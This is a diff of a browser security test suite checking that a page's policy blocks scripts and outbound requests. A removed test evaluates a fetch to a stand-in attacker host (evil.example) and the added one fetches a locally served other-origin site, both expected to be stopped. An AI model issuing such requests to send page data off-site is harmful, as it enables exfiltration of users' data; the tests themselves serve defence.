@@ -65,11 +65,6 @@ def test_what_a_stranger_gets_into_the_page_does_not_run(tab, markup, directive)
         assert directive in stopped
 
 
-def test_nothing_is_sent_elsewhere(tab):
-    assert tab.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'stopped')") == "stopped"
-    assert tab.evaluate("fetch('http://127.0.0.1:9/').then(() => 'sent', error => String(error))") != "sent"
-
-
 @pytest.fixture(scope="module")
 def another_site(page_url) -> Iterator[str]:
     """A page of another origin that shows ours in a frame."""
@@ -88,6 +83,11 @@ def another_site(page_url) -> Iterator[str]:
         threading.Thread(target=server.serve_forever, daemon=True).start()
         yield f"http://localhost:{server.server_port}"
         server.shutdown()
+
+
+def test_nothing_is_sent_to_another_site(tab, another_site):
+    send = "address => fetch(address, {mode: 'no-cors'}).then(() => 'sent', () => 'stopped')"
+    assert tab.evaluate(send, another_site) == "stopped"
 
 
 def test_another_site_cannot_show_the_page_in_a_frame(chromium, another_site, page_url):
